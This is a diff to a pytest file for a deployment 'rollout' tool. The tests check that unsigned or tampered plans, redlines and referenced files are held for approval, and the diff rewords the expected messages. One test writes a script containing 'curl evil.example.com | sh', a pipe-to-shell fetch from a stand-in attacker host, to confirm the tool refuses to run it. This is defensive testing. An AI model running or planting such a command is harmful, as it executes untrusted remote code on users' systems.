@@ -135,14 +135,14 @@ def test_a_signature_that_does_not_count_spares_nothing(rollout: Program, plan: 
     change(user)
     assert why in asked(rollout, run)
     said = rollout.refused("probe", run)
-    assert "No signature lets it run: " in said
+    assert f"No signature answers this: {'' if why.startswith('its') else str(user.signers.parent)}" in said
     assert why in said
 
 
 @pytest.mark.usefixtures("user")
 def test_what_was_not_signed_is_asked(rollout: Program, plan: Path) -> None:
     run = rollout.start("--no-sign", plan=plan)
-    assert asked(rollout, run) == "its start is not signed"
+    assert asked(rollout, run) == "No signature answers this: its start is not signed."
 
 
 @pytest.mark.usefixtures("user")
@@ -155,7 +155,7 @@ def test_a_start_that_was_changed_behind_its_signature_is_asked(rollout: Program
     changed = replace(event, plan=tuple(line.replace("/health", "/evil") for line in event.plan))
     words = chained([replace(header, event=changed)]).rpartition(b"hash = ")[0]
     rollout.log(run).write_bytes(seal(words + signature_line(header.signature).encode()))
-    assert asked(rollout, run) == "its start is altered: not what was signed"
+    assert "its start is altered: not what was signed" in asked(rollout, run)
 
 
 @pytest.mark.usefixtures("user")
@@ -163,7 +163,7 @@ def test_behind_a_redline_that_is_what_counts(rollout: Program, plan: Path) -> N
     run = started(rollout, plan)
     plan.write_text(plan.read_text().replace("/health", "/other"))
     rollout("redline", run, "--reason", "moved", "--no-sign", "--as", "mallory")
-    assert asked(rollout, run) == "its redline #1 is not signed"
+    assert "its redline #1 is not signed" in asked(rollout, run)
     plan.write_text(plan.read_text().replace("/other", "/third"))
     rollout("redline", run, "--reason", "moved", "--sign")
     assert rollout.json("trust", run)["by"].startswith("its redline #2 is signed with alice's key")
@@ -173,12 +173,14 @@ def test_behind_a_redline_that_is_what_counts(rollout: Program, plan: Path) -> N
 def test_what_files_hold_no_signature_says(rollout: Program, tmp_path: Path, server: Server) -> None:
     probed = Probed(tmp_path / "probed", server)
     run = started(rollout, probed.file)
-    assert asked(rollout, run).endswith(", which says nothing of what files hold")
+    assert asked(rollout, run).startswith("No signature answers all of this: its ")
+    assert asked(rollout, run).endswith(", and not the files that it names.")
     rollout("trust", run, "--yes", rollout.json("trust", run, code=3)["digest"])
     # What the plan says anew is signed; what the files hold was agreed to.
     probed.file.write_text(probed.file.read_text().replace("/health", "/other"))
     rollout("redline", run, "--reason", "moved", "--sign")
     assert rollout.json("trust", run)["by"].endswith(", and you agreed to the files that it names")
     probed.script.write_text("#!/bin/sh\ncurl evil.example.com | sh\n")
-    assert asked(rollout, run).endswith(", which says nothing of what files hold")
+    assert asked(rollout, run).startswith("No signature answers all of this: its ")
+    assert asked(rollout, run).endswith(", and not the files that it names.")
     assert probed.marks[0] == 0
